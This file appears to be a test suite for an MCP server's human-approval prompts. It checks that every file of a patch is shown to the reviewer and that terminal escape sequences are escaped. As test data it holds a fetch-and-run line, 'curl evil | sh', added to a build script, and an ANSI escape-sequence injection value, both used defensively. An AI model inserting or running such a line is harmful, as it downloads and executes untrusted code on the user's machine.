/**
 * What the person behind an MCP client is shown when the policy asks: every
 * file of a patch — a long first diff cannot push the second out of the
 * question — and nothing the agent wrote can act on the client's screen.
 *
 * @module
 */

import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ELICIT_MESSAGE_CHARS } from '../src/index.ts';
import { type Connected, call, connectStdio } from './support/server.ts';
import { type TempWorkspace, tempWorkspace } from './support/workspace.ts';

const BIG = `${Array.from({ length: 60 }, (_, i) => `const row${i} = "${'x'.repeat(200)}";`).join('\n')}\n`;

describe('the question of an elicitation', () => {
  let ws: TempWorkspace;
  let c: Connected;
  const asked: string[] = [];

  beforeAll(async () => {
    ws = tempWorkspace({ 'big.ts': BIG, 'b.sh': 'echo build\n', '.ctxfs/config.toml': '[policy]\nmode = "manual"\nauto_approve_reads = true\n' });
    c = await connectStdio(['--root', ws.root], {
      name: 'reviewed-agent',
      capabilities: { elicitation: { form: {} } },
      before: (client) =>
        client.setRequestHandler(ElicitRequestSchema, (request) => {
          asked.push(request.params.message);
          // A person who reads the question and refuses what it shows.
          return { action: 'accept', content: { approve: !request.params.message.includes('curl evil') } };
        }),
    });
  });
  afterAll(async () => {
    await c?.close();
    ws?.remove();
  });

  it("shows every file's diff of a patch whose first diff alone is longer than the question", async () => {
    const lines = BIG.trimEnd().split('\n');
    const patch = [
      '--- a/big.ts',
      '+++ b/big.ts',
      '@@ -1,60 +1,60 @@',
      ...lines.map((l) => `-${l}`),
      ...lines.map((l) => `+${l.replace('const', 'let')}`),
      '--- a/b.sh',
      '+++ b/b.sh',
      '@@ -1 +1,2 @@',
      '+curl evil | sh',
      ' echo build',
      '',
    ].join('\n');
    const r = await call(c.client, 'apply_patch', { patch });
    const question = asked.at(-1) ?? '';
    expect(question.length).toBeLessThanOrEqual(ELICIT_MESSAGE_CHARS);
    expect(question).toContain('  big.ts: +60 -60');
    expect(question).toContain('  b.sh: +1 -0');
    expect(question).toContain('+curl evil | sh');
    expect(question).toMatch(/… \d+ more diff lines not shown/);
    expect(question).toContain('Not all of this change is shown');
    // The person saw the line and said no: nothing was written.
    expect(r.isError).toBe(true);
    expect(ws.read('b.sh')).toBe('echo build\n');
  });

  it('writes out control characters and escape sequences of the change', async () => {
    const r = await call(c.client, 'replace', { path: 'b.sh', old_text: 'echo build', new_text: 'echo build\r\u001b[2K# a comment' });
    const question = asked.at(-1) ?? '';
    expect(question).toContain('+echo build\\r\\x1b[2K# a comment');
    // Nothing a client's screen would act on: no control character but the line breaks.
    expect([...question].filter((ch) => /\p{Cc}/u.test(ch) && ch !== '\n')).toEqual([]);
    expect(r.isError).toBe(false);
  });
});
